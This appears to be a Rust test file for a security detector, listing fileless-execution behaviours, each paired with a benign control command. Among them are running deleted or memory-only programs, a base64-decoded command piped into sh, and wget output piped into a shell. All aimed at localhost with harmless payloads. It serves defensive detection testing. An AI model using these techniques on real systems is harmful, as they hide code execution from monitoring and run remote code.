//! Programs that are in no file, and code that comes as text.

use super::stage::{Act, Stage, act};

pub(crate) const ACTS: &[Act] = &[
    act("Program Run From Memory", "act memory-file run", "act memory-file make"),
    act(
        "Program Without A Name Run",
        "cp /act/act /data/gone && exec 9</data/gone && rm /data/gone && /proc/self/fd/9",
        "exec 9</etc/hostname && cat /proc/self/fd/9",
    ),
    act(
        "Script Without A Name Run",
        "echo : >/data/gone && exec 9</data/gone && rm /data/gone && sh /proc/self/fd/9",
        "echo : >/data/script && sh /data/script",
    ),
    act(
        "Library Loaded From A Temporary Folder",
        "cp /act/act /tmp/library.so && act load /tmp/library.so",
        "act load /bin/busybox",
    ),
    act("Code Mapped From Memory Only", "act memory-file map", "act memory-file make"),
    act("Unpacked Code Run", "cp /act/act /data/packed && /data/packed writable-code", "act writable-code"),
    act(
        "Encoded Command Decoded And Run",
        "echo dHJ1ZQ== | base64 -d | sh",
        "echo dHJ1ZQ== | base64 -d > /data/decoded",
    ),
    act(
        "Command Too Long To Be Seen Whole",
        "sh -c \": $(head -c 5000 /dev/zero | tr '\\0' x)\"",
        "sh -c \": $(head -c 3000 /dev/zero | tr '\\0' x)\"",
    ),
    act(
        "Download Piped Into A Shell",
        "wget -q -O - http://127.0.0.1:9/ | sh; true",
        "wget -q -O - http://127.0.0.1:9/ | cat; true",
    ),
    act(
        "Download By A Service",
        "/act/httpd run wget -q -T 1 -O - http://127.0.0.2:9/",
        "/act/httpd run wget -q -T 1 -O - http://127.0.0.1:9/",
    ),
];

#[test]
fn fileless() {
    let stage = Stage::new("fileless", &[]);
    stage.perform(ACTS);
}
